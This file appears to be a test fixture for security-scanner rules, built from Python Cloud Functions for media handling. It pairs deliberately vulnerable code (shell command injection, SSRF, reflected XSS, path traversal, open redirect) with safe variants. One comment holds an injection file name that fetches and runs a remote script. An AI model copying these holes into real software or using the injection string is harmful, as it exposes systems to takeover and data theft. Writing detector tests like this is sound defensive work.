"""Cloud Functions of the media team: thumbnails, imports from partner CDNs, share links.

Deployed with `gcloud functions deploy <name> --entry-point <name> --runtime python312`.
Every HTTP function receives a flask.Request; the storage trigger receives a CloudEvent.
"""

import html
import os
import shlex
import subprocess
import tempfile
from pathlib import Path
from urllib.parse import urlparse

import functions_framework
import requests
from flask import abort, redirect, send_file
from google.cloud import storage

BUCKET = os.environ.get("MEDIA_BUCKET", "media-prod")
THUMB_SIZES = {"small": "160x160", "medium": "480x480", "large": "1024x1024"}
IMPORT_HOSTS = {"images.unsplash.com", "upload.wikimedia.org", "images.pexels.com"}
SHARE_BASE = "https://share.example-media.com/s/"
WORK = Path(tempfile.gettempdir()) / "thumbs"

gcs = storage.Client()


def _local_copy(object_name: str) -> Path:
    WORK.mkdir(parents=True, exist_ok=True)
    local = WORK / os.path.basename(object_name)
    # the object name is cut to its basename before it names the local file [extended sink]
    # ok: path-traversal
    gcs.bucket(BUCKET).blob(object_name).download_to_filename(str(local))
    return local


@functions_framework.http
def make_thumbnail(request):
    name = request.args.get("object", "")
    dims = THUMB_SIZES.get(request.args.get("size", "small"))
    if dims is None:
        abort(400)
    local = _local_copy(name)
    out = local.with_suffix(".thumb.jpg")
    # basename() removes directories, not shell syntax: "a;curl evil.sh|sh.jpg" stays whole
    # ruleid: command-injection
    subprocess.run(f"convert {local} -thumbnail {dims} {out}", shell=True, check=True)
    # the same conversion as an argument list
    # ok: command-injection
    subprocess.run(["convert", str(local), "-thumbnail", dims, str(out)], check=True)
    return {"thumbnail": out.name}


@functions_framework.http
def import_image(request):
    src = request.args.get("src", "")
    host = urlparse(src).hostname or ""
    if host not in IMPORT_HOSTS:
        return ("host not allowed", 400)
    # hostname allowlist with an early return
    # ok: ssrf
    resp = requests.get(src, timeout=10)
    name = os.path.basename(urlparse(src).path) or "import.jpg"
    gcs.bucket(BUCKET).blob(f"imports/{name}").upload_from_string(resp.content)
    return {"stored": name}


@functions_framework.http
def preview_remote(request):
    page = request.args.get("page", "")
    image = request.args.get("image", "")
    if urlparse(page).hostname not in IMPORT_HOSTS:
        abort(400)
    # the allowlist checked `page`; `image` is fetched unchecked
    # ruleid: ssrf
    data = requests.get(image, timeout=5).content
    return data, 200, {"Content-Type": "image/jpeg"}


@functions_framework.http
def caption_page(request):
    title = request.args.get("title", "Untitled")
    credit = request.args.get("credit", "")
    # a view's HTML string with raw query text [extended sink]
    # ruleid: xss
    return f"<figure><figcaption>{title}</figcaption><small>{credit}</small></figure>"


@functions_framework.http
def caption_page_safe(request):
    title = html.escape(request.args.get("title", "Untitled"))
    # escaped before it is put into the markup [extended sink]
    # ok: xss
    return f"<figure><figcaption>{title}</figcaption></figure>"


@functions_framework.http
def download_original(request):
    name = request.args.get("name", "")
    # a constant directory in front of the client's name is no control
    # ruleid: path-traversal
    return send_file(WORK / name, as_attachment=True)


@functions_framework.http
def download_thumb(request):
    name = request.args.get("name", "")
    target = (WORK / name).resolve()
    if not target.is_relative_to(WORK.resolve()):
        abort(403)
    # resolve() + is_relative_to with an early exit
    # ok: path-traversal
    return send_file(target)


@functions_framework.http
def open_share(request):
    token = request.args.get("t", "")
    # constant https host in front of the token
    # ok: open-redirect
    return redirect(SHARE_BASE + token)


@functions_framework.http
def after_upload(request):
    back = request.args.get("continue", "/library")
    # the continue parameter is redirected to as it came
    # ruleid: open-redirect
    return redirect(back)


@functions_framework.cloud_event
def on_upload(cloud_event):
    data = cloud_event.data
    name = data["name"]
    local = _local_copy(name)
    # the uploader chose the object name; the shell sees it inside hand-written quotes
    # ruleid: command-injection
    meta = subprocess.check_output(f"exiftool -json '{local}'", shell=True)
    # shlex.quote around the same value
    # ok: command-injection
    meta = subprocess.check_output(f"exiftool -json {shlex.quote(str(local))}", shell=True)
    # the CloudEvent's object name reaches a file written under WORK unreduced
    # ruleid: path-traversal
    (WORK / f"{name}.json").write_bytes(meta)
